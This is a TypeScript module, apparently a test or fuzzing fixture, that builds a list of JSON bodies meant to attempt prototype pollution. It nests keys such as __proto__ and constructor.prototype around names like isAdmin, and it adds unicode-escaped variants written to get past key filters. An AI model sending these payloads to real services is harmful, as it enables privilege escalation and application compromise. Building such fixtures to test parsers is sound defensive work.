const targets = ["__proto__", "constructor.prototype", "constructor", "prototype", "__proto__.__proto__"]
const names = [
  "polluted",
  "toString",
  "isAdmin",
  "length",
  "status",
  "_status",
  "then",
  "toJSON",
  "0",
  "__proto__",
]
const values = ["true", '"x"', "{}", "[1]"]

function nest(path: string, name: string, value: string): string {
  return path.split(".").reduceRight((inner, step) => `{"${step}":${inner}}`, `{"${name}":${value}}`)
}

const escape = (text: string) =>
  text
    .split("")
    .map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`)
    .join("")

/** Bodies that attempt prototype pollution. */
export const prototypePayloads: readonly string[] = [
  ...targets.flatMap((target) => names.flatMap((name) => values.map((value) => nest(target, name, value)))),
  // Each character of the name as an escape.
  ..."__proto__"
    .split("")
    .map(
      (one, at) => `{"${"__proto__".slice(0, at)}${escape(one)}${"__proto__".slice(at + 1)}":{"polluted":1}}`,
    ),
  `{"${escape("__proto__")}":{"polluted":1}}`,
  `{"${escape("__proto__").toUpperCase().replaceAll("\\U", "\\u")}":{"polluted":1}}`,
  `{"${escape("constructor")}":{"${escape("prototype")}":{"polluted":1}}}`,
  `{"constructor":{"${escape("p")}rototype":{"polluted":1}}}`,
  `{"${escape("c")}onstructor":{"prototype":{"polluted":1}}}`,
  '{"a":{"__proto__":{"polluted":1}}}',
  '{"a":{"constructor":{"prototype":{"polluted":1}}}}',
  '[{"__proto__":{"polluted":1}}]',
  '{"a":[{"constructor":{"prototype":{"polluted":1}}}]}',
  '{"__proto__":null}',
  '{"__proto__":[]}',
  '{"__proto__":1,"__proto__":{"polluted":1}}',
  '{"constructor":1,"constructor":{"prototype":{"polluted":1}}}',
  '{"constructor":{"prototype":1,"prototype":{"polluted":1}}}',
  '{"constructor":{"constructor":{"prototype":{"polluted":1}}}}',
  '{"toString":{"constructor":{"prototype":{"polluted":1}}}}',
  '{"hasOwnProperty":{"__proto__":{"__proto__":{"polluted":1}}}}',
  '{"a":{"toString":{"__proto__":{"polluted":1}}}}',
  '{"__defineGetter__":{"__proto__":{"polluted":1}}}',
  '{"__lookupGetter__":{"polluted":1}}',
]
